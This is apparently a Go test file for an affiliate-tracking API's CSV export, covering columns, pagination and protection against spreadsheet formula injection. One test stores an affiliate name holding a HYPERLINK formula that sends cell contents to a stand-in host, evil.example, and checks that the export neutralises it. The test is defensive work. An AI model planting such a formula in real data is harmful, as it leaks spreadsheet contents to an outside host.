package api

import (
	"encoding/csv"
	"math/rand/v2"
	"net/http"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/caddy-affiliate/caddy-affiliate/tracker"
)

// readCSV is the answer's lines by column.
func (r reply) readCSV() []map[string]string {
	r.t.Helper()
	if r.want(http.StatusOK).header.Get("Content-Type") != "text/csv; charset=utf-8; header=present" {
		r.t.Fatalf("the type is %q", r.header.Get("Content-Type"))
	}
	lines, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
	if err != nil || len(lines) == 0 {
		r.t.Fatalf("reading %q: %v", r.body, err)
	}
	var rows []map[string]string
	for _, line := range lines[1:] {
		row := map[string]string{}
		for i, name := range lines[0] {
			row[name] = line[i]
		}
		rows = append(rows, row)
	}
	return rows
}

func TestListsAsCSV(t *testing.T) {
	s := newShop(t)
	p := s.furnish()
	for path, want := range map[string]map[string]string{
		"affiliates":                            {"id": p.affiliate, "name": "partner of partner", "created_at": "2026-11-21T12:00:00.000Z"},
		"campaigns":                             {"id": p.campaign, "archived": "false"},
		"links":                                 {"id": p.link, "code": "partner", "enabled": "true", "expires_at": ""},
		"sessions":                              {"id": p.session, "ip": "203.0.113.7", "sub1": "news", "sub2": "", "time": "2026-11-21T11:00:00.000Z"},
		"customers":                             {"id": p.customer, "external_id": "c-1"},
		"transactions":                          {"id": p.transaction, "deposit": "-5"},
		"conversions":                           {"id": p.sale, "amount": "9990", "wage": "999", "affiliate": "partner of partner", "paid_at": ""},
		"reports?from=2026-11-21&to=2026-11-21": {"clicks": "1", "conversions": "1", "amount": "9990", "currency": "EUR"},
	} {
		r := s.request("GET", path, nil)
		r.Header.Set("Accept", "text/csv")
		separator := map[bool]string{true: "&", false: "?"}[strings.Contains(path, "?")]
		for _, got := range []reply{s.send(r), s.do("GET", path+separator+"format=csv", nil)} {
			rows := got.readCSV()
			found := false
			for _, row := range rows {
				matches := true
				for column, value := range want {
					matches = matches && row[column] == value
				}
				found = found || matches
			}
			if !found {
				t.Errorf("%s has no line with %v: %v", path, want, rows)
			}
		}
		s.do("GET", path+separator+"format=json", nil).rows()
	}
	s.do("GET", "links/"+p.link+"?format=csv", nil).wantProblem(http.StatusUnprocessableEntity, "invalid", "format")
	r := s.request("GET", "conversions?limit=x", nil)
	r.Header.Set("Accept", "text/csv")
	s.send(r).wantProblem(http.StatusUnprocessableEntity, "invalid", "limit")
}

func TestCSVHasPagesAndALinkToTheNext(t *testing.T) {
	s := newShop(t)
	for _, name := range []string{"a", "b", "c"} {
		s.do("POST", "affiliates", fields{"name": name}).want(http.StatusCreated)
	}
	var names []string
	for path := "affiliates?format=csv&limit=2"; path != ""; {
		got := s.do("GET", path, nil)
		for _, row := range got.readCSV() {
			names = append(names, row["name"])
		}
		next, _, _ := strings.Cut(strings.TrimPrefix(got.header.Get("Link"), "</affiliate/v1/"), ">")
		path = next
	}
	if strings.Join(names, " ") != "a b c" {
		t.Errorf("the pages show %v", names)
	}
}

// isFormula is how a careless spreadsheet judges a cell: it skips white space and quotes.
func isFormula(cell string) bool {
	rest := strings.TrimLeft(cell, " \"`\u00a0\u3000\ufeff")
	if strings.HasPrefix(rest, "'") {
		return false
	}
	first, _ := utf8.DecodeRuneInString(rest)
	return strings.ContainsRune("=+-@\t\r\n＝＋－＠", first)
}

func TestNoCellIsAFormula(t *testing.T) {
	alphabet := []rune("=+-@\t\r\n＝＋－＠ '\"`\u00a0\ufeff,;abc1é")
	random := rand.New(rand.NewPCG(1, 2))
	values := []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\"=1", "'=1", "' =1", "", "=", "-", "plain", "a=b", "1-2"}
	for range 20_000 {
		var b strings.Builder
		for range random.IntN(6) {
			b.WriteRune(alphabet[random.IntN(len(alphabet))])
		}
		values = append(values, b.String())
	}
	columns := []column[string]{{"first", func(s *string) any { return *s }}, {"number", func(*string) any { return int64(-7) }}, {"last", func(s *string) any { return *s }}}
	var out strings.Builder
	if err := encodeCSV(&out, values, columns); err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil || len(lines) != len(values)+1 {
		t.Fatalf("%d lines for %d values: %v", len(lines), len(values), err)
	}
	for i, line := range lines[1:] {
		// The reader makes line feeds of what RFC 4180 ends a line with.
		sent := strings.ReplaceAll(values[i], "\r\n", "\n")
		for _, cell := range []string{line[0], line[2]} {
			if isFormula(cell) {
				t.Fatalf("%q became the formula %q", values[i], cell)
			}
			if strings.ReplaceAll(strings.TrimPrefix(cell, "'"), "\r", "") != strings.ReplaceAll(strings.TrimPrefix(sent, "'"), "\r", "") &&
				strings.ReplaceAll(strings.TrimPrefix(cell, "'"), "\r", "") != strings.ReplaceAll(sent, "\r", "") {
				t.Fatalf("%q became %q", values[i], cell)
			}
		}
		if line[1] != "-7" {
			t.Fatalf("-7 became %q", line[1])
		}
	}
	for _, harmless := range []string{"plain", "a=b", "1-2", "", "é"} {
		if got := tracker.GuardFormula(harmless); got != harmless {
			t.Errorf("%q became %q", harmless, got)
		}
	}
}

// A number that something has not is an empty cell: a spreadsheet would group by 0 as if it were an affiliate.
func TestAbsentNumbersAreEmptyCells(t *testing.T) {
	s := newShop(t)
	s.do("POST", "conversions", sale).want(http.StatusCreated) // which nobody earns
	row := s.do("GET", "conversions?format=csv", nil).readCSV()[0]
	if row["affiliate_id"] != "" || row["campaign_id"] != "" || row["link_id"] != "" || row["wage"] != "0" {
		t.Errorf("the conversion is %v", row)
	}
	row = s.do("GET", "reports?from=2026-11-21&to=2026-11-21&format=csv", nil).readCSV()[0]
	if row["affiliate_id"] != "" || row["campaign_id"] != "" || row["link_id"] != "" || row["wage"] != "0" {
		t.Errorf("the report's line is %v", row)
	}
}

func TestFormulasInTheBooksAreGuarded(t *testing.T) {
	s := newShop(t)
	s.do("POST", "affiliates", fields{"name": `=HYPERLINK("http://evil.example/?"&A1)`}).want(http.StatusCreated)
	row := s.do("GET", "affiliates?format=csv", nil).readCSV()[0]
	if row["name"] != `'=HYPERLINK("http://evil.example/?"&A1)` {
		t.Errorf("the name is %q", row["name"])
	}
}
